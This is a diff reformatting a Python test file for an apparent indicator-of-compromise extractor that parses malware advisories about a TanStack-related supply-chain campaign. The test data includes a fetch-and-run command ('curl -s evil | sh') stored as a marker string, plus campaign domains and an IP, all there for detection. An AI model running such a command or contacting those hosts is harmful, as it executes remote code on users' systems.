@@ -62,8 +62,11 @@ def test_refang(defanged: str, plain: str) -> None:
         ("A" * 64, "sha256", "a" * 64),
         ("@tanstack/setup", "marker", "@tanstack/setup"),
         ("s1ngularity-repository", "marker", "s1ngularity-repository"),
-        ("github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c", "marker",
-         "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c"),
+        (
+            "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c",
+            "marker",
+            "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c",
+        ),
         ("curl -s evil | sh", "marker", "curl -s evil | sh"),
     ],
 )
@@ -156,8 +159,12 @@ def test_domain_values() -> None:
 def test_real_osv_records_carry_the_tanstack_domains() -> None:
     iocs = advisory_iocs([shared_data("osv")])
     by_value = {i.value: i for i in iocs}
-    tanstack = {"git-tanstack.com", "filev2.getsession.org", "api.masscan.cloud",
-                "seed1.getsession.org"}  # fmt: skip
+    tanstack = {
+        "git-tanstack.com",
+        "filev2.getsession.org",
+        "api.masscan.cloud",
+        "seed1.getsession.org",
+    }
     assert tanstack <= set(by_value)
     assert all(by_value[value].kind == "domain" for value in tanstack)
     # Other campaigns' records name whole URLs (a webhook.site exfiltration endpoint): kept as URLs.
@@ -169,13 +176,21 @@ def test_real_osv_records_carry_the_tanstack_domains() -> None:
 
 
 def _record(record_id: str, iocs: dict[str, list[str]], **extra: object) -> dict[str, object]:
-    return {"id": record_id, "modified": "2026-05-12T00:00:00Z",
-            "database_specific": {"iocs": iocs}, **extra}  # fmt: skip
+    return {
+        "id": record_id,
+        "modified": "2026-05-12T00:00:00Z",
+        "database_specific": {"iocs": iocs},
+        **extra,
+    }
 
 
 def test_advisories_skip_withdrawn_and_staging_and_read_zips(tmp_path: Path) -> None:
-    live = {"domains": ["live.example"], "ips": ["142.11.206.73"], "files": ["router_init.js"],
-            "other": ["hxxp://x[.]example/a"]}  # fmt: skip
+    live = {
+        "domains": ["live.example"],
+        "ips": ["142.11.206.73"],
+        "files": ["router_init.js"],
+        "other": ["hxxp://x[.]example/a"],
+    }
     records = {
         "MAL-2026-1.json": _record("MAL-2026-1", live),
         "MAL-2026-2.json": _record(
@@ -191,8 +206,12 @@ def test_advisories_skip_withdrawn_and_staging_and_read_zips(tmp_path: Path) -> 
         for name, record in records.items():
             (folder / name).write_text(json.dumps(record), encoding="utf-8")
             archive.writestr(name, json.dumps(record))
-    expected = [("domain", "live.example"), ("ipv4", "142.11.206.73"),
-                ("filename", "router_init.js"), ("url", "http://x.example/a")]  # fmt: skip
+    expected = [
+        ("domain", "live.example"),
+        ("ipv4", "142.11.206.73"),
+        ("filename", "router_init.js"),
+        ("url", "http://x.example/a"),
+    ]
     for source in (folder, dump):
         assert [(i.kind, i.value) for i in advisory_iocs([source])] == expected
         assert all(i.sources == ("MAL-2026-1",) for i in advisory_iocs([source]))
@@ -208,11 +227,13 @@ def test_advisories_bad_json_names_the_file(tmp_path: Path) -> None:
 
 
 def test_merge_keeps_every_source_once() -> None:
-    merged = merge([
-        Ioc("domain", "evil.com", ("a",)),
-        Ioc("domain", "evil.com", ("b", "a")),
-        Ioc("marker", "evil.com", ("c",)),
-    ])  # fmt: skip
+    merged = merge(
+        [
+            Ioc("domain", "evil.com", ("a",)),
+            Ioc("domain", "evil.com", ("b", "a")),
+            Ioc("marker", "evil.com", ("c",)),
+        ]
+    )
     assert merged == [Ioc("domain", "evil.com", ("a", "b")), Ioc("marker", "evil.com", ("c",))]
 
 
